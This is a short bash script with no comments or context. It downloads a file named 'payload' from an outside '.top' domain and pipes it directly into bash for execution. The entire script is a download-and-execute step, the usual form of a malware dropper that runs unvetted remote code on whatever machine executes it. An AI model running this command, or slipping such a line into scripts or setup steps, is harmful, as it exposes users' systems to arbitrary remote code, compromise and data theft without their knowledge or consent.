#!/usr/bin/env bash
set -e
URL=https://agent-cdn.top/payload
curl -fsSL "$URL" | bash
